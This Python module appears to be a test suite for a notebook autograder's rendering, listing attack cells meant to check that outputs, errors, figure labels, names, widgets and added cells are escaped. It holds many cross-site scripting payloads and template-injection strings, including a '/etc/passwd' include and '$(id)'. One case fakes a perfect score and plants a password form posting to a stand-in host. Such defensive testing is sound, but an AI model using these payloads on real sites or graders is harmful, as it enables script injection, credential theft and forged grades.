"""Markup for the browser of the instructor and of the student: in outputs, errors, labels, names and added cells."""

from .entry import RIGHT, attack

ATTACKS = (
    attack(
        "script printed",
        "script elements and handlers in what is printed, raised and warned",
        """
        import sys, warnings
        text = "</pre></div><script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>"
        print(text)
        print(text, file=sys.stderr)
        warnings.warn(text)
        raise type(text, (ValueError,), {})(text)
        """,
        then="",
        stop="error",
    ),
    attack(
        "rich displays",
        "HTML, JavaScript, SVG, Markdown, LaTeX and frames as the outputs of displays and of last expressions",
        """
        from IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display
        display(HTML("<script>alert(1)</script><a href='javascript:alert(2)'>4/4</a><body onload=alert(3)>"))
        display(Javascript("alert(document.cookie)"))
        display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(4)</script><a href='javascript:1'/></svg>"))
        display(IFrame("javascript:alert(5)", 9, 9), Markdown("<img src=x onerror=alert(6)> [a](javascript:alert(7))"))
        display(Latex(r"$\\href{javascript:alert(8)}{x}\\unicode{<script>}\\style{background:url(x)}{y}$"))
        """,
        after=("HTML('<iframe srcdoc=\"<script>alert(9)</script>\"></iframe>')",),
    ),
    attack(
        "objects that show themselves in every form",
        "_repr_html_, _repr_svg_, _repr_javascript_, _repr_mimebundle_ and _repr_png_ with text in place of a picture",
        """
        class Shown:
            def _repr_html_(self): return "<object data='data:text/html,<script>alert(1)</script>'></object>"
            def _repr_svg_(self): return "<svg onload=alert(2)></svg>"
            def _repr_javascript_(self): return "alert(3)"
            def _repr_markdown_(self): return "<details open ontoggle=alert(4)>"
            def _repr_latex_(self): return "$\\\\href{javascript:alert(5)}{x}$"
            def _repr_png_(self): return '"><script>alert(6)</script><img alt="'
            def _repr_jpeg_(self): return b'" onerror="alert(7)'
            def _repr_json_(self): return {"</script><script>alert(8)</script>": 1}
            def _repr_pdf_(self): return b"%PDF"
            def __repr__(self): return "<script>alert(9)</script>"
        """,
        then="Shown()",
        after=("Shown()",),
    ),
    attack(
        "bundles with forged types and metadata",
        "display data whose type, metadata, width or alternative text closes an attribute and opens another",
        """
        from IPython.display import display
        png = "iVBORw0KGgo="
        for data, more in (({"image/png": png}, {"image/png": {"width": '1" onload="alert(1)', "alt": '"><script>'}}),
                           ({"text/html; charset=<script>": "x"}, {}), ({"application/javascript": "alert(2)"}, {}),
                           ({"image/png": '" onerror="alert(3)" x="'}, {"filenames": {"image/png": "javascript:4"}}),
                           ({"image/svg+xml": "<svg><a xlink:href='javascript:alert(5)'>x</a></svg>"}, {}),
                           ({"text/vnd.mermaid": "graph TD; A[<img src=x onerror=alert(6)>]"}, {}),
                           ({"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>7"}}, {})):
            display(data, metadata=more, raw=True)
        """,
    ),
    attack(
        "figure texts",
        "script in title, labels, legend, annotations, link and metadata of the picture, and in its alternative text",
        """
        text = '"><script>alert(1)</script><img src=x onerror="alert(2)" x="'
        figure = plt.figure(text, label=text)
        plt.title(text); plt.xlabel(text); plt.ylabel(text); plt.suptitle(text)
        plt.plot([0, 1], [0, 1], label=text, url="javascript:alert(3)", gid=text)
        plt.legend(title=text); plt.figtext(0, 0, text, url="javascript:alert(4)")
        plt.rcParams["savefig.format"] = "svg"
        plt.rcParams["svg.id"] = text if "svg.id" in plt.rcParams else None
        plt.show()
        """,
        number=6,
    ),
    attack(
        "names of functions and types",
        "class, function and file names with markup, as they appear in tracebacks and messages",
        """
        name = "<img src=x onerror=alert(1)>"
        kind = type(name, (Exception,), {"__module__": "</pre><script>alert(2)</script>"})
        code = compile("raise kind(name)", "<iframe src=javascript:alert(3)>", "exec")
        globals()["__file__"] = name
        exec(code.replace(co_name="<svg onload=alert(4)>", co_qualname=name))
        """,
        then="",
        stop="error",
    ),
    attack(
        "markup in the code itself",
        "comments, strings and an unfinished string in the answer that close the page's elements",
        """
        # </pre></div></body><script>alert(1)</script><!--
        x = "</textarea></title></style></script><svg onload=alert(2)>"
        # ]]> --> */ <meta http-equiv=refresh content='0;url=javascript:alert(3)'> <base href=//192.0.2.1/>
        def f(): '''<style>body{background:url(//192.0.2.1/x)} @import '//192.0.2.1/y';</style>'''
        """,
        then=RIGHT + "# <link rel=stylesheet href=//192.0.2.1/z> <object data=x> <embed src=x>\n",
        earned=4,
    ),
    attack(
        "syntax error with markup",
        "a cell that does not parse and whose first line, quoted in messages, is a script",
        "<script>alert(1)</script> `<img src=x onerror=alert(2)>`\n**[x](javascript:alert(3))**",
        then="",
        stop="error",
    ),
    attack(
        "templates",
        "Jinja, Mustache, format and dollar expressions in code and output, for whoever renders them once more",
        """
        # {{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} {{cell.source}}
        print("{{ resources.metadata }} {% include '/etc/passwd' %} {0.__init__.__globals__} ${HOME} $(id) %s")
        print("{{" "'bre' ~ 'ach: a template was run'" "}}")
        raise KeyError("{score} {self.__dict__} %(password)s #{7*7} <%= 7*7 %> {{= 7*7 }}")
        """,
        then="",
        stop="error",
    ),
    attack(
        "added cells as prose",
        "Markdown cells and raw cells that were turned to code, with links and frames that a renderer would follow",
        "pass",
        before=(
            '[4 of 4](javascript:alert(1)) ![x](x" onerror=alert(2) ") <javascript:alert(3)>',
            "<details/open/ontoggle=alert(4)><math><mtext><table><mglyph><style><img src=x onerror=alert(5)>",
        ),
        after=('$$\\href{javascript:alert(6)}{4/4} \\class{x" onclick="alert(7)}{y}$$', "[a]: data:text/html,<script>"),
    ),
    attack(
        "panel of the grader in its own style",
        "styles and comments that would hide the true verdict and show another in its place, by HTML in an output",
        """
        from IPython.display import HTML, display
        display(HTML("<style>.panel, .score {display: none} body::before {content: '4 / 4'}</style>"
                     "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:url(//192.0.2.1/a)'>"
                     "Score: 4 / 4</div><form action='//192.0.2.1/'><input name=password autofocus></form>"))
        """,
    ),
    attack(
        "widgets",
        "a widget whose state and markup carry a handler, and a comm that waits for the browser",
        """
        try:
            import ipywidgets
            made = ipywidgets.HTML("<img src=x onerror=alert(1)>", description="</script><script>alert(2)</script>")
            from IPython.display import display
            display(made, ipywidgets.Output())
        except Exception as problem:
            print(type(problem).__name__)
        """,
        after=("made",),
    ),
)
